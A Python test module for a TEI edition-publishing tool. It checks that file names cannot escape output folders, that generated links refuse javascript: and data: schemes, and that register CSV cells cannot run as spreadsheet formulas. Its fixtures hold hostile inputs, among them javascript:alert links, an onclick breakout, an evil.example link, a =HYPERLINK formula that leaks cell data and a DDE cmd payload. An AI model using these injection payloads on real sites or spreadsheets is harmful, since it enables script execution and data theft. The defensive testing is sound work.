"""What a file's name, a link in the TEI or a name in a register can do to the site (issue 17,
items 1, 2 and 9), and what teikit does instead.

* An edition's name is its file's name: `seeds/...txt` once wrote its views into the project itself,
  over the user's `index.html`. Names are now checked (`teikit.paths.edition_name`) and every output
  path stays inside its folder (`teikit.paths.output_path`).
* A seed `javascript:alert(1337).txt` once put a script link on the landing page, and names with
  `#`, `?` or `%` gave broken links. Every link the views make from data goes through one function,
  `t:href` in xslt/common.xsl, which percent-encodes and refuses any scheme but http(s).
* A register name `=HYPERLINK(…)` ran as a formula when register.csv was opened in a spreadsheet.

Each item ends with properties (Hypothesis) over names, ids and cells drawn from a hostile alphabet.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urljoin, urlsplit
from urllib.request import url2pathname

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree, html

from teikit.cli import cli
from teikit.errors import InputError
from teikit.paths import output_path
from teikit.build import write_landing_page
from teikit.pipeline import convert_file, tei_bytes
from teikit.render import FORMULA_STARTS, REGISTER_FIELDS, register_csv, render_edition, render_tree, render_views

from conftest import ROOT

pytest_plugins = ["browser"]

LETTER = ROOT / "tests" / "data" / "letter.txt"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"
T = "{http://www.tei-c.org/ns/1.0}"


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def files_under(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def links_in(page: Path | str) -> list[str]:
    """Every href and src of an HTML page (a file, or the page as a string)."""
    text = page.read_text(encoding="utf-8") if isinstance(page, Path) else page
    return [value for el in html.fromstring(text).iter() if isinstance(el.tag, str)
            for name, value in el.attrib.items() if name in ("href", "src")]


def edition_links(landing: Path | str) -> list[str]:
    """The links of the landing page's edition cards, in order."""
    text = landing.read_text(encoding="utf-8") if isinstance(landing, Path) else landing
    return html.fromstring(text).xpath("//li[contains(@class, 'edition-card')]//a/@href")


def relative_or_http(href: str) -> bool:
    """What a browser makes of the link: no scheme and no '//host' (so it stays in the site), or http(s).
    Browsers drop leading and trailing controls and spaces, and tabs and line breaks anywhere."""
    url = re.sub("[\t\n\r]", "", href.strip("".join(map(chr, range(0x21)))))
    scheme = urlsplit(url).scheme.lower()
    return scheme in ("http", "https") or (scheme == "" and not re.match(r"[/\\]{2}", url))


@pytest.fixture(scope="module")
def letter_tei() -> bytes:
    return tei_bytes(convert_file(LETTER))


def project_with_seeds(folder: Path, *names: str) -> Path:
    (folder / "seeds").mkdir(parents=True)
    for name in names:
        shutil.copy(LETTER, folder / "seeds" / name)
    return folder


# ---------------------------------------------------------------- hostile alphabets (for the properties)

#: Pieces that have broken paths, links or spreadsheets somewhere: dots, separators, URL syntax,
#: schemes, spaces and controls, bidirectional and zero-width characters, letters of other scripts.
HOSTILE_PIECES = ["..", ".", "/", "\\", ":", "#", "?", "%", "%2e", "%2F", " ", "\t", "\n", "\r", "javascript:",
                  "JaVa\tScRiPt:", "data:", "file:", "//", "\u202e", "\u200b", "\ufeff", "é", "e\u0301", "Ж", "中",
                  "ا", "-", "_", "~", "'", '"', "<", ">", "&", "=", "+", "@", ";", ",", "|", "\x7f", "\x1b",
                  "a", "Z", "0", "9", "letter", "1929"]
hostile = st.lists(st.one_of(st.sampled_from(HOSTILE_PIECES),
                             st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=3)),
                   min_size=1, max_size=8).map("".join)


def xml_safe(text: str) -> str:
    """`text` without what XML cannot carry at all (NUL, most C0 controls, U+FFFE/U+FFFF)."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text)


# ---------------------------------------------------------------- 1. a name that climbs out of its folder

@pytest.mark.parametrize("seed, name", [("...txt", ".."), ("..txt", ".")])
def test_a_seed_named_like_a_parent_folder_is_refused_and_the_others_build(tmp_path, monkeypatch, seed, name):
    project = project_with_seeds(tmp_path / "p", "a.txt", seed)
    (project / "index.html").write_text("keep\n", encoding="utf-8")
    monkeypatch.chdir(project)

    result = run("build", "-j1")

    assert (project / "index.html").read_text(encoding="utf-8") == "keep\n"
    assert result.exit_code == 2  # an input error, as the README says
    assert f"teikit: seeds/{seed}: {name!r} is not a safe edition name: it must start with a letter or a digit; " \
           "rename it\n" in result.stderr
    assert f"{name}: FAILED" in result.stderr
    assert "a: converted, valid, 3 views in site/a/" in result.stdout
    assert files_under(project) - {"index.html", "seeds/a.txt", f"seeds/{seed}"} == {
        "tei/a.xml", "site/index.html", "site/.teikit-build.json", "site/.teikit-stat.json",
        "site/assets/teikit.css", "site/assets/teikit.js",
        "site/assets/lunr.js", "site/assets/search-index.js",
        # two texts are a corpus: "a" leaves its extract for the corpus pages (written once every text builds)
        *(f"site/a/{file}" for file in ("reading.html", "diplomatic.html", "index.html", "register.json", "a.xml",
                                         "register.csv", "search.js", "corpus.xml"))}
    landing = project / "site" / "index.html"
    assert html.parse(str(landing)).findtext(".//title") == "teikit editions"
    assert "a/reading.html" in links_in(landing)


def test_render_of_a_tei_named_dot_dot_writes_nothing(tmp_path, monkeypatch, letter_tei):
    (tmp_path / "...xml").write_bytes(letter_tei)
    monkeypatch.chdir(tmp_path)

    result = run("render", "./...xml", "-o", "out/site")

    assert result.exit_code == 2
    assert result.stderr == ("teikit: ...xml: '..' is not a safe edition name: it must start with a letter or a "
                             "digit; rename it\n")
    assert not (tmp_path / "out").exists()


def test_convert_names_the_edition_after_its_output_and_refuses_an_unsafe_one(tmp_path):
    text = tmp_path / "my letter.txt"
    shutil.copy(LETTER, text)

    refused = run("convert", str(text))
    assert refused.exit_code == 2
    assert refused.stderr == (f"teikit: {text}: 'my letter' is not a safe edition name: it contains ' ' (U+0020); "
                              "use letters, digits, '-', '_' and '.'; rename it, e.g. to my-letter.txt\n")
    assert refused.stdout == ""

    assert run("convert", str(text), "-o", str(tmp_path / "my-letter.xml")).exit_code == 0
    assert run("convert", str(text), "-o", str(tmp_path / "..xml")).exit_code == 2


def test_every_output_path_stays_inside_its_folder_even_through_a_symbolic_link(tmp_path, letter_tei):
    """The second line of defence: a name the check let through, or a folder that is a link elsewhere."""
    site, elsewhere = tmp_path / "site", tmp_path / "elsewhere"
    elsewhere.mkdir()
    site.mkdir()
    (site / "linked").symlink_to(elsewhere)
    tree = etree.ElementTree(etree.fromstring(letter_tei))

    for name in ("..", ".", "a/../..", "/etc", "linked"):
        with pytest.raises(InputError, match="refusing to write outside"):
            render_edition(tree, name, site)
    assert files_under(tmp_path) == set()


file_names = hostile.filter(lambda name: "/" not in name and "\0" not in name and 0 < len(name.encode()) <= 200)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=file_names)
def test_any_file_name_is_refused_in_one_line_or_rendered_inside_its_own_folder(tmp_path_factory, letter_tei, name):
    base = tmp_path_factory.mktemp("name")
    tei = base / "in" / f"{name}.xml"
    tei.parent.mkdir()
    tei.write_bytes(letter_tei)
    site = base / "out" / "site"

    result = run("render", str(tei), "-o", str(site))

    if result.exit_code == 2:
        assert "is not a safe edition name" in result.stderr and result.stderr.count("\n") == 1
        assert files_under(base) == {f"in/{name}.xml"}
        return
    assert result.exit_code == 0, result.output
    folder = site / name
    assert folder.resolve().parent == site.resolve() and folder.name == name
    assert files_under(base) - {f"in/{name}.xml"} == {
        "out/site/assets/teikit.css", "out/site/assets/teikit.js",
        *(f"out/site/{name}/{file}" for file in ("reading.html", "diplomatic.html", "index.html",
                                                  "register.json", "register.csv", f"{name}.xml"))}


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(hostile, min_size=1, max_size=3))
def test_an_output_path_is_refused_or_inside_its_folder(tmp_path_factory, parts):
    folder = tmp_path_factory.getbasetemp() / "out"
    try:
        path = output_path(folder, *parts)
    except InputError as exc:
        assert "\n" not in exc.message
        return
    assert path.resolve().is_relative_to(folder.resolve()) and path.resolve() != folder.resolve()


# ---------------------------------------------------------------- 2. links made from names and from the TEI


def test_a_seed_named_javascript_puts_no_script_link_on_the_landing_page(tmp_path, monkeypatch):
    project = project_with_seeds(tmp_path / "p", "a.txt", "javascript:alert(1337).txt")
    monkeypatch.chdir(project)

    result = run("build", "-j1")

    assert result.exit_code == 2
    assert ("teikit: seeds/javascript:alert(1337).txt: 'javascript:alert(1337)' is not a safe edition name: it "
            "contains ':' (U+003A); use letters, digits, '-', '_' and '.'; rename it, e.g. to "
            "javascript-alert-1337.txt\n") in result.stderr
    links = [link for page in (project / "site").rglob("*.html") for link in links_in(page)]
    assert links and not [link for link in links if "javascript" in link.lower()]


#: Folder names `build` refuses, which the library still takes (a script may call render_edition):
#: the links to them must still be safe and still lead to them.
ODD_NAMES = ("javascript:alert(1337)", "a#b", "why?", "100%", "x y", "Broué", "%2e%2e")


@pytest.fixture(scope="module")
def odd_site(tmp_path_factory, letter_tei) -> Path:
    """Editions under ODD_NAMES rendered by the library, with their landing page."""
    base = tmp_path_factory.mktemp("odd-names")
    site, tei = base / "site", base / "tei"
    tei.mkdir()
    for name in ODD_NAMES:
        (tei / f"{name}.xml").write_bytes(letter_tei)
        render_edition(etree.ElementTree(etree.fromstring(letter_tei)), name, site)
    write_landing_page(site, sorted(tei.iterdir()))
    return site


def test_links_to_editions_with_odd_names_are_encoded_and_lead_to_their_files(odd_site):
    landing = odd_site / "index.html"
    links = edition_links(landing)
    assert len(links) == 5 * len(ODD_NAMES)  # the title and the four views of each
    assert "javascript%3Aalert%281337%29/reading.html" in links
    assert all(relative_or_http(link) for link in links_in(landing))
    targets = {Path(url2pathname(urlsplit(urljoin(landing.as_uri(), link)).path)) for link in links}
    assert targets == {odd_site / name / file for name in ODD_NAMES
                       for file in ("reading.html", "diplomatic.html", "index.html", "register.csv")}
    assert all(target.is_file() for target in targets)


@pytest.mark.browser
def test_a_reader_clicking_those_links_reaches_each_edition_and_nothing_runs(odd_site, tab):
    for name in ODD_NAMES:
        tab.open((odd_site / "index.html").as_uri())
        tab.page.click(f'[id="edition-{name}"] h2 a')
        tab.page.wait_for_load_state("load")
        assert unquote(urlsplit(tab.page.url).path).endswith(f"/{name}/reading.html"), tab.page.url
        assert tab.page.title().endswith("reading text")
    assert tab.dialogs == []


def test_the_tei_links_its_schema_by_a_uri_that_works_from_a_folder_with_odd_characters(tmp_path):
    """convert writes xml-model links to the schema for editors' tools: a folder named with a space,
    a quote and a '#' on the way must not cut them short."""
    home = tmp_path / 'teikit "home" #2'
    for folder in ("schema", "xslt"):
        shutil.copytree(ROOT / folder, home / folder)
    out = tmp_path / "out" / "letter.xml"

    subprocess.run([sys.executable, "-m", "teikit", "convert", str(LETTER), "-o", str(out)], check=True,
                   env={**os.environ, "TEIKIT_HOME": str(home)})

    hrefs = [pi.get("href") for pi in etree.parse(str(out)).xpath("/processing-instruction('xml-model')")]
    assert hrefs == ["../teikit%20%22home%22%20%232/schema/teikit.xsd", "../teikit%20%22home%22%20%232/schema/teikit.sch"]
    assert [Path(url2pathname(urlsplit(urljoin(out.as_uri(), href)).path)) for href in hrefs] == [
        home / "schema" / "teikit.xsd", home / "schema" / "teikit.sch"]


HOSTILE_TEI = """<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="en">
  <teiHeader><fileDesc><titleStmt><title type="main">Links of every kind</title></titleStmt>
    <publicationStmt><p>Test.</p></publicationStmt><sourceDesc><p>Test.</p></sourceDesc></fileDesc></teiHeader>
  <standOff>
    <listPerson>
      <person xml:id="smith"><persName type="standard">John Smith</persName>
        <idno type="wikidata">javascript:alert(1)</idno><idno type="viaf">1" onclick="alert(2)</idno>
        <idno type="geonames">//evil.example/1</idno><idno type="URI">javascript:alert(3)</idno>
        <idno type="wikidata">Q42</idno></person>
    </listPerson>
  </standOff>
  <text><body><div type="letter" xml:id="letter">
    <p xml:id="p1"><persName ref="#smith">Smith</persName> and <persName ref="javascript:alert(4)">Jones</persName>
      read <ref target="javascript:alert(5)">this</ref>, <ptr target="data:text/html,alert(6)"/> and
      <ref target="//evil.example/">that</ref>.<note type="editorial" xml:id="n1">A note.</note></p>
  </div></body></text>
</TEI>
"""


def test_hostile_uris_in_a_register_and_the_text_become_no_links(tmp_path):
    """A hand-written TEI may carry any URI: the views link only register entries, passages and the
    authority files teikit knows, each through t:href."""
    tei = tmp_path / "links.xml"
    tei.write_text(HOSTILE_TEI, encoding="utf-8")

    assert run("render", str(tei), "-o", str(tmp_path / "site")).exit_code == 0

    pages = sorted((tmp_path / "site" / "links").glob("*.html"))
    links = [link for page in pages for link in links_in(page)]
    assert [link for link in links if not relative_or_http(link) or "alert" in link or "evil" in link] == []
    assert [link for link in links if link.startswith("http")] == ["https://www.wikidata.org/wiki/Q42"]
    assert "index.html#smith" in links and "diplomatic.html#p1" in links and "#n1" in links
    [smith] = json.loads((tmp_path / "site" / "links" / "register.json").read_text(encoding="utf-8"))["entries"]
    assert [smith[f"{authority}_url"] for authority in ("wikidata", "geonames", "viaf")] == [None, None, None]


def hostile_tei(entry_id: str, passage_id: str, note_id: str, authority: str, value: str) -> etree._ElementTree:
    """A small TEI carrying hostile ids and identifiers in every place a view makes a link from."""
    tei = etree.Element(f"{T}TEI")
    person = etree.SubElement(etree.SubElement(etree.SubElement(tei, f"{T}standOff"), f"{T}listPerson"),
                              f"{T}person", {XML_ID: entry_id})
    etree.SubElement(person, f"{T}persName", type="standard").text = "Smith"
    etree.SubElement(person, f"{T}idno", type=authority).text = value
    div = etree.SubElement(etree.SubElement(etree.SubElement(tei, f"{T}text"), f"{T}body"), f"{T}div",
                           {"type": "letter", XML_ID: passage_id + "-div"})
    p = etree.SubElement(div, f"{T}p", {XML_ID: passage_id})
    etree.SubElement(p, f"{T}persName", ref="#" + entry_id).text = "Smith"
    etree.SubElement(p, f"{T}note", {"type": "editorial", XML_ID: note_id}).text = "A note."
    return etree.ElementTree(tei)


def ids(text: st.SearchStrategy) -> st.SearchStrategy:
    """Hostile ids with no white space (a pointer is a list of them) and nothing XML cannot carry."""
    return text.map(xml_safe).map(lambda s: re.sub(r"\s", "", s)).filter(bool)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=hostile.map(xml_safe).filter(bool), entry_id=ids(hostile), passage_id=ids(hostile),
       note_id=ids(hostile), authority=st.sampled_from(["wikidata", "geonames", "viaf", "URI"]),
       value=st.one_of(hostile.map(xml_safe), st.sampled_from(["Q42", "2643743", "javascript:alert(1)"])))
def test_every_link_the_views_write_is_relative_or_http_and_leads_where_it_says(
        name, entry_id, passage_id, note_id, authority, value):
    corpus = etree.Element(f"{T}teiCorpus")
    etree.SubElement(corpus, f"{T}TEI", n=name)
    landing = render_tree(etree.ElementTree(corpus), "landing", "index")
    views = render_views(hostile_tei(entry_id, passage_id, note_id, authority, value),
                         ("reading", "diplomatic", "index"), "edition")

    links = [link for page in (landing, *views.values()) for link in links_in(page)]
    assert [link for link in links if not relative_or_http(link)] == []
    assert [unquote(link) for link in edition_links(landing)] == [
        f"{name}/{file}" for file in ("reading.html", "reading.html", "diplomatic.html", "index.html", "register.csv")]
    fragments = {unquote(link.partition("#")[2]) for page in views.values() for link in links_in(page) if "#" in link}
    assert {entry_id, passage_id, note_id, "fnref-" + note_id} <= fragments


# ---------------------------------------------------------------- 9. formulas in register.csv


FORMULA_TEI = """<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="en">
  <teiHeader><fileDesc><titleStmt><title type="main">A register of formulas</title></titleStmt>
    <publicationStmt><p>Test.</p></publicationStmt><sourceDesc><p>Test.</p></sourceDesc></fileDesc></teiHeader>
  <standOff>
    <listPerson>
      <person xml:id="link"><persName type="standard">=HYPERLINK("http://evil.example/?d="&amp;A1,"Smith")</persName>
        <persName type="variant">@SUM(1+1)*cmd|' /C calc'!A0</persName><note>-2+3 a spy</note></person>
      <person xml:id="plus"><persName type="standard">+44 20 7946 0000</persName><birth when="-0044"/></person>
    </listPerson>
    <listPlace>
      <place xml:id="here"><placeName type="standard">Here, "quoted"; and split</placeName>
        <placeName type="modern">=1+1</placeName></place>
    </listPlace>
  </standOff>
  <text><body><div type="letter"><p>Nothing.</p></div></body></text>
</TEI>
"""


def test_register_names_that_look_like_formulas_reach_the_spreadsheet_as_text(tmp_path):
    tei = tmp_path / "formulas.xml"
    tei.write_text(FORMULA_TEI, encoding="utf-8")

    assert run("render", str(tei), "-o", str(tmp_path / "site")).exit_code == 0

    with (tmp_path / "site" / "formulas" / "register.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    assert rows["link"]["name"] == """'=HYPERLINK("http://evil.example/?d="&A1,"Smith")"""
    assert rows["link"]["variants"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["link"]["identification"] == "'-2+3 a spy"
    assert rows["plus"]["name"] == "'+44 20 7946 0000" and rows["plus"]["birth"] == "'-0044"
    assert rows["here"]["name"] == 'Here, "quoted"; and split' and rows["here"]["modern_name"] == "'=1+1"
    assert rows["here"]["mentions"] == "0"
    data = (tmp_path / "site" / "formulas" / "register.json").read_text(encoding="utf-8")
    assert '"name": "=HYPERLINK(' in data  # the JSON is data, not a spreadsheet: it keeps the name as it is


#: Cells as the registers (XML) can hold them, half of them starting like a formula.
csv_cells = st.one_of(hostile, st.sampled_from(FORMULA_STARTS).flatmap(lambda start: hostile.map(start.__add__))
                      ).map(xml_safe)


@settings(max_examples=200, deadline=None)
@given(cells=st.lists(csv_cells, min_size=len(REGISTER_FIELDS) + 1, max_size=len(REGISTER_FIELDS) + 1))
def test_no_cell_of_register_csv_starts_like_a_formula(cells):
    record = dict(zip(REGISTER_FIELDS, cells))
    record.update(variants=cells[-2:], mentions=len(cells))

    rows = list(csv.reader(io.StringIO(register_csv([record]).decode("utf-8"), newline="")))

    assert len(rows) == 2 and len(rows[1]) == len(REGISTER_FIELDS)
    for key, cell in zip(REGISTER_FIELDS, rows[1]):
        assert not cell.startswith(FORMULA_STARTS)
        written = " | ".join(record["variants"]) if key == "variants" else str(record[key])
        assert cell in (written, "'" + written)  # nothing lost but the quote put in front
